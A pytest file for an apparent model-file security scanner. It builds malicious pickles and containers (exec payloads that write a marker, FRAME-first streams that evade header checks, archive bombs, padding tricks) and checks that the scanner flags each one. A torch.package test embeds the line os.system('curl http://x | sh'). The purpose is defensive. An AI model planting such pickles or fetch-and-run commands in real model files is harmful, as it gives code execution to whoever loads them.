"""Hostile pickles and containers: FRAME-first streams in every container kind (proved to run under the
real loaders), code in model containers analysed as code, deep values, bombs, truncated streams,
padding before the payload, and the findings cap. Every file is written by the real library."""
from __future__ import annotations

import bz2
import gzip
import importlib.util
import io
import lzma
import pickle
import pickletools
import struct
import subprocess
import sys
import zipfile
import zlib
from pathlib import Path

import pytest

from auditor.model import Finding, Severity
from auditor.parsers.picklevm import analyze, find_pickles, looks_like_pickle
from auditor.scanners.pickle import scan_path

PY = sys.executable


class Payload:
    """exec() of code that writes a marker file: what every loader below must really run."""

    def __init__(self, marker: Path) -> None:
        self.marker = marker

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return exec, (f"open({str(self.marker)!r}, 'w').write('ran')",)


def strip_proto(data: bytes) -> bytes:
    """The same pickle without its 2-byte PROTO header: it then begins with FRAME."""
    assert data[:1] == b"\x80" and data[2:3] == b"\x95", data[:4]
    return data[2:]


def top(findings: list[Finding]) -> Severity:
    return max((f.severity for f in findings), default=Severity.INFO)


def loads_and_runs(code: str, marker: Path) -> None:
    """Run a real loader in a child process; the marker proves the payload ran there."""
    marker.unlink(missing_ok=True)
    proc = subprocess.run([PY, "-c", code], capture_output=True, text=True, timeout=120)
    assert marker.exists(), proc.stderr[-2000:]


def frame_first_pickle(marker: Path) -> bytes:
    return strip_proto(pickle.dumps({"w": [1, 2], "x": Payload(marker)}, protocol=4))


def test_frame_first_plain_pickle(tmp_path: Path) -> None:
    marker = tmp_path / "ran"
    path = tmp_path / "pytorch_model.bin"
    path.write_bytes(frame_first_pickle(marker))
    loads_and_runs(f"import pickle; pickle.load(open({str(path)!r}, 'rb'))", marker)
    loads_and_runs(f"import torch; torch.load({str(path)!r}, weights_only=False)", marker)
    findings = scan_path(path)
    assert top(findings) == Severity.CRITICAL and "builtins.exec" in str([f.evidence for f in findings])
    odd = tmp_path / "weights.data_blob"          # no pickle extension, unknown format: still found by content
    odd.write_bytes(path.read_bytes())
    assert top(scan_path(odd)) == Severity.CRITICAL


def _rewrite_zip_member(path: Path, member_suffix: str, change: object) -> None:
    with zipfile.ZipFile(path) as z:
        items = [(i, z.read(i.filename)) for i in z.infolist()]
    with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as z:
        for info, data in items:
            z.writestr(info, change(data) if info.filename.endswith(member_suffix) else data)  # type: ignore[operator]


def test_frame_first_torch_zip_data_pkl(tmp_path: Path) -> None:
    import torch
    marker = tmp_path / "ran"
    path = tmp_path / "pytorch_model.bin"
    torch.save({"w": torch.zeros(2), "x": Payload(marker)}, path, pickle_protocol=4)
    _rewrite_zip_member(path, "data.pkl", strip_proto)
    loads_and_runs(f"import torch; torch.load({str(path)!r}, weights_only=False)", marker)
    assert top(scan_path(path)) == Severity.CRITICAL


def _pickle_ends(data: bytes, count: int) -> list[int]:
    ends, pos = [], 0
    for _ in range(count):
        for op, _arg, at in pickletools.genops(io.BytesIO(data[pos:])):
            if op.name == "STOP":
                ends.append(pos + at + 1)
                break
        pos = ends[-1]
    return ends


def test_frame_first_fourth_pickle_of_legacy_torch(tmp_path: Path) -> None:
    import torch
    marker = tmp_path / "ran"
    path = tmp_path / "model.pt"
    torch.save({"w": torch.zeros(2), "x": Payload(marker)}, path, _use_new_zipfile_serialization=False,
               pickle_protocol=4)
    data = path.read_bytes()
    third_end = _pickle_ends(data, 3)[-1]
    assert data[third_end:third_end + 1] == b"\x80" and data[third_end + 2:third_end + 3] == b"\x95"
    path.write_bytes(data[:third_end] + data[third_end + 2:])     # the object pickle now begins with FRAME
    loads_and_runs(f"import torch; torch.load({str(path)!r}, weights_only=False)", marker)
    assert top(scan_path(path)) == Severity.CRITICAL


def test_frame_first_npy_object_body(tmp_path: Path) -> None:
    import numpy as np
    marker = tmp_path / "ran"
    path = tmp_path / "arr.npy"
    buf = io.BytesIO()
    np.lib.format.write_array_header_1_0(buf, {"descr": "|O", "fortran_order": False, "shape": (1,)})
    path.write_bytes(buf.getvalue() + frame_first_pickle(marker))
    loads_and_runs(f"import numpy as np; np.load({str(path)!r}, allow_pickle=True)", marker)
    assert top(scan_path(path)) == Severity.CRITICAL


@pytest.mark.parametrize("compress", [0, "zlib", "gzip", "bz2", "xz"])
def test_frame_first_joblib(tmp_path: Path, compress: object) -> None:
    import joblib
    marker = tmp_path / "ran"
    path = tmp_path / "model.joblib"
    joblib.dump({"x": Payload(marker)}, path, compress=(compress, 3) if compress else 0, protocol=4)
    raw = path.read_bytes()
    codecs = {"zlib": (zlib.decompress, zlib.compress), "gzip": (gzip.decompress, gzip.compress),
              "bz2": (bz2.decompress, bz2.compress), "xz": (lzma.decompress, lzma.compress)}
    if compress:
        unpack, pack = codecs[str(compress)]
        path.write_bytes(pack(strip_proto(unpack(raw))))
    else:
        path.write_bytes(strip_proto(raw))
    loads_and_runs(f"import joblib; joblib.load({str(path)!r})", marker)
    assert top(scan_path(path)) == Severity.CRITICAL


def test_frame_first_in_a_nested_zip_member_and_a_literal(tmp_path: Path) -> None:
    marker = tmp_path / "ran"
    inner = frame_first_pickle(marker)
    path = tmp_path / "bundle.zip"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("archive/data.pkl", inner)
    assert top(scan_path(path)) == Severity.CRITICAL
    carrier = tmp_path / "carrier.pkl"     # a FRAME-first pickle as a bytes literal inside a benign pickle
    carrier.write_bytes(pickle.dumps({"blob": inner}, protocol=4))
    assert top(scan_path(carrier)) == Severity.CRITICAL


def test_find_pickles_after_safetensors_data(tmp_path: Path) -> None:
    import torch
    from safetensors.torch import save_file
    path = tmp_path / "model.safetensors"
    save_file({"w": torch.zeros(4)}, str(path))
    data = path.read_bytes() + frame_first_pickle(tmp_path / "ran")
    header_end = 8 + struct.unpack("<Q", data[:8])[0]
    found = find_pickles(data, header_end + 16)
    assert found and any(ref.qualname == "builtins.exec" for a in found for ref in a.imports)
    assert not [a for a in find_pickles(path.read_bytes(), header_end) if a.imports]


def test_text_never_reads_as_a_pickle() -> None:
    assert looks_like_pickle(b"\x95\x10\x00\x00\x00\x00\x00\x00\x00}")
    assert not analyze(b"class M(Module):\n    pass\n").complete


# --- code in containers ------------------------------------------------------------------------

def _scripted_module(tmp_path: Path, body: str) -> object:
    source = tmp_path / "tsmod.py"
    source.write_text("import torch\n\nclass M(torch.nn.Module):\n    def __init__(self):\n"
                      "        super().__init__()\n        self.lin = torch.nn.Linear(2, 2)\n\n"
                      "    def forward(self, x):\n        return self.lin(x)\n" + body)
    spec = importlib.util.spec_from_file_location("tsmod", source)
    assert spec and spec.loader
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module.M()


def test_benign_torchscript_has_no_pickle_global_finding(tmp_path: Path) -> None:
    import torch
    path = tmp_path / "ts.pt"
    torch.jit.save(torch.jit.script(_scripted_module(tmp_path, "")), str(path))
    findings = scan_path(path)
    assert {f.rule for f in findings} == {"TORCHSCRIPT-ARCHIVE"}, [(f.rule, f.evidence) for f in findings]


def test_torchscript_setstate_from_file_is_named(tmp_path: Path) -> None:
    import torch
    body = ("\n    @torch.jit.export\n    def __getstate__(self) -> int:\n        return 1\n\n"
            "    @torch.jit.export\n    def __setstate__(self, state: int) -> None:\n"
            "        data = torch.from_file('/etc/hostname', shared=True, size=4)\n        print(data)\n")
    path = tmp_path / "ts.pt"
    torch.jit.save(torch.jit.script(_scripted_module(tmp_path, body)), str(path))
    access = [f for f in scan_path(path) if f.rule == "TORCHSCRIPT-FILE-ACCESS"]
    assert access and access[0].severity == Severity.CRITICAL and "__setstate__" in access[0].evidence


def test_torch_package_source_is_analysed_as_code(tmp_path: Path) -> None:
    from torch.package import PackageExporter
    path = tmp_path / "pkg.pt"
    with PackageExporter(str(path)) as exporter:
        exporter.save_source_string("evil", "import os\nos.system('curl http://x | sh')\n")
        exporter.save_pickle("model", "model.pkl", {"a": 1})
    findings = scan_path(path)
    rules_seen = {f.rule for f in findings}
    assert "TORCH-PACKAGE-ARCHIVE" in rules_seen and "PICKLE-GLOBAL-DANGEROUS" not in rules_seen
    code = [f for f in findings if f.rule.startswith("CODE-") and "evil.py" in f.location]
    assert code and top(code) >= Severity.HIGH


# --- bounded on hostile input ------------------------------------------------------------------

def test_million_deep_tuple_key_does_not_crash(tmp_path: Path) -> None:
    path = tmp_path / "deep.pkl"
    path.write_bytes(b"\x80\x04}" + b")" + b"\x85" * 1_000_000 + b"K\x01s.")
    code = f"from pathlib import Path; from auditor.scanners.pickle import scan_path; print(len(scan_path(Path({str(path)!r}))))"
    proc = subprocess.run([PY, "-c", code], capture_output=True, text=True, timeout=300, cwd=Path(__file__).parents[1])
    assert proc.returncode == 0, proc.stderr[-2000:]


def test_findings_are_capped_with_a_summary(tmp_path: Path) -> None:
    path = tmp_path / "many.pkl"
    body = b"".join(b"cos\nf%d\n0" % i for i in range(3000))
    path.write_bytes(b"\x80\x02" + body + b"N.")
    findings = scan_path(path)
    assert len(findings) <= 502
    summary = [f for f in findings if f.rule == "PICKLE-FINDINGS-CAPPED"]
    assert summary and summary[0].severity == Severity.CRITICAL


def test_empty_members_before_the_payload_cannot_hide_it(tmp_path: Path) -> None:
    path = tmp_path / "pytorch_model.bin"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as z:
        for i in range(100_000):
            z.writestr(f"archive/pad/{i}", b"")
        z.writestr("archive/data.pkl", pickle.dumps(Payload(tmp_path / "ran"), protocol=2))
    findings = scan_path(path)
    assert any(f.rule == "PICKLE-GLOBAL-DANGEROUS" for f in findings)


@pytest.mark.parametrize("kind", ["gzip", "bz2", "xz", "zstd"])
def test_truncated_and_trailing_streams_are_findings(tmp_path: Path, kind: str) -> None:
    import zstandard
    pack = {"gzip": gzip.compress, "bz2": bz2.compress, "xz": lzma.compress,
            "zstd": zstandard.ZstdCompressor().compress}[kind]
    raw = pack(pickle.dumps({"w": list(range(2000))}, protocol=4))
    suffix = {"gzip": ".gz", "bz2": ".bz2", "xz": ".xz", "zstd": ".zst"}[kind]
    clean = tmp_path / f"ok.pkl{suffix}"
    clean.write_bytes(raw)
    assert top(scan_path(clean)) <= Severity.INFO
    cut = tmp_path / f"cut.pkl{suffix}"
    cut.write_bytes(raw[: len(raw) - 12])
    assert "ARCHIVE-STREAM-TRUNCATED" in {f.rule for f in scan_path(cut)}
    trailing = tmp_path / f"tail.pkl{suffix}"
    trailing.write_bytes(raw + b"garbage after the end")
    assert "ARCHIVE-TRAILING-DATA" in {f.rule for f in scan_path(trailing)}


@pytest.mark.parametrize("kind", ["gzip", "bz2", "xz", "zstd", "zip", "7z"])
def test_bombs_are_bounded_findings(tmp_path: Path, kind: str) -> None:
    zeros = pickle.dumps(b"\x00" * (64 << 20), protocol=4)
    path = tmp_path / f"bomb.pkl.{kind}"
    if kind == "zip":
        with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
            z.writestr("data.pkl", zeros)
    elif kind == "7z":
        import py7zr
        with py7zr.SevenZipFile(path, "w") as z:
            z.writestr(zeros, "data.pkl")
    else:
        import zstandard
        pack = {"gzip": gzip.compress, "bz2": bz2.compress, "xz": lzma.compress,
                "zstd": zstandard.ZstdCompressor().compress}[kind]
        path.write_bytes(pack(zeros))
    findings = scan_path(path)
    assert "ARCHIVE-BOMB" in {f.rule for f in findings} and top(findings) >= Severity.HIGH


def test_sklearn_download_and_exec_helpers_are_critical(tmp_path: Path) -> None:
    for module, name in (("sklearn.datasets._base", "fetch_file"),
                         ("sklearn.utils._testing", "assert_run_python_script_without_output")):
        path = tmp_path / f"{name}.pkl"
        path.write_bytes(b"\x80\x02c%s\n%s\n)R." % (module.encode(), name.encode()))
        assert top(scan_path(path)) == Severity.CRITICAL, name


def test_real_training_and_config_objects_are_clean(tmp_path: Path) -> None:
    from typing import Any

    import scipy.sparse as sp
    import torch
    from omegaconf import OmegaConf
    from peft import LoraConfig
    from transformers import TrainingArguments
    objects = {
        "training_args.bin": TrainingArguments(output_dir=str(tmp_path / "out"), report_to=[]),
        "adapter.bin": LoraConfig(r=8, target_modules=["q_proj"]),
        "hparams.ckpt": {"hyper_parameters": OmegaConf.create({"lr": 0.1, "m": {"layers": [1, 2]}}), "t": Any},
        "full_module.pt": torch.nn.Sequential(torch.nn.Linear(2, 2), torch.nn.ReLU(), torch.nn.LayerNorm(2),
                                              torch.nn.Conv2d(1, 1, 1), torch.nn.Embedding(3, 2)),
        "sparse.pkl": {k: getattr(sp, k)(torch.eye(3).numpy()) for k in
                       ("csr_matrix", "csc_matrix", "coo_matrix", "lil_matrix", "dok_matrix", "csr_array")},
    }
    for name, obj in objects.items():
        path = tmp_path / name
        torch.save(obj, path)
        bad = [(f.rule, f.evidence) for f in scan_path(path) if f.severity > Severity.INFO]
        assert not bad, (name, bad)
    accelerate_config = tmp_path / "accel.bin"      # what accelerate's dataclass pickles as (AcceleratorConfig)
    accelerate_config.write_bytes(pickle.dumps(TrainingArguments(output_dir=str(tmp_path / "o"),
                                                                 report_to=[]).accelerator_config, protocol=2))
    assert top(scan_path(accelerate_config)) <= Severity.INFO


